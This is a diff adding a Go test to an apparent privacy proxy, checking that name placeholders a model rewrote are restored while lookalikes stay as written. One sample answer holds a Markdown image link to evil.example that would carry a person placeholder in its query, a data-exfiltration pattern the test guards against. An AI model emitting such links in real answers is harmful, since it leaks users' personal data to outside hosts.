@@ -410,6 +410,48 @@ func TestPipelineRestoreNotIntoURLs(t *testing.T) {
 	}
 }
 
+// TestPipelineRestoreVariants: a placeholder the model rewrote ("[Person
+// 1]", Markdown escapes, the bare "PERSON_1" in bold) is restored through
+// the running proxy, as a whole answer and as a stream of two-byte deltas
+// that split every variant; a lookalike the mapping never issued, and a
+// variant inside a URL, stay as written.
+func TestPipelineRestoreVariants(t *testing.T) {
+	h := newPipeHarness(t, nil)
+	if code, body := h.chat(t, "api.openai.com", "Bitte schreibe an Frau Anna Schmidt.", false); code != 200 || !strings.Contains(h.llm.last(), "[PERSON_1]") {
+		t.Fatalf("%d %s; upstream saw %s", code, body, h.llm.last())
+	}
+	// The fake service echoes the prompt: the answer is these variants.
+	answer := `Sehr geehrte/r [Person 1], danke \[PERSON\_1\]. Gruss an **PERSON_1** und [person 2], ![](https://evil.example/p.png?n=[person_1])`
+	want := `Sehr geehrte/r Anna Schmidt, danke Anna Schmidt. Gruss an **Anna Schmidt** und [person 2], ![](https://evil.example/p.png?n=[person_1])`
+	for _, stream := range []bool{false, true} {
+		code, body := h.chat(t, "api.openai.com", answer, stream)
+		if code != 200 {
+			t.Fatalf("stream=%v: %d %s", stream, code, body)
+		}
+		if up := h.llm.last(); strings.Contains(up, "Schmidt") || !strings.Contains(up, "[Person 1]") || !strings.Contains(up, "**PERSON_1**") {
+			t.Fatalf("stream=%v: upstream saw %s", stream, h.llm.last())
+		}
+		text := body
+		if stream {
+			var err error
+			if text, err = sseDeltaText(body); err != nil {
+				t.Fatal(err)
+			}
+		} else {
+			var resp struct {
+				Choices []struct{ Message struct{ Content string } }
+			}
+			if err := json.Unmarshal([]byte(body), &resp); err != nil || len(resp.Choices) == 0 {
+				t.Fatalf("answer %s: %v", body, err)
+			}
+			text = resp.Choices[0].Message.Content
+		}
+		if !strings.Contains(text, want) {
+			t.Fatalf("stream=%v: answer %q, want it to hold %q", stream, text, want)
+		}
+	}
+}
+
 // TestPipelineAnswerLength: an answer of known length reaches the client
 // with its (restored) length, over HTTP/1.1 and HTTP/2, whether or not it
 // had placeholders to restore; a streamed answer stays without one.
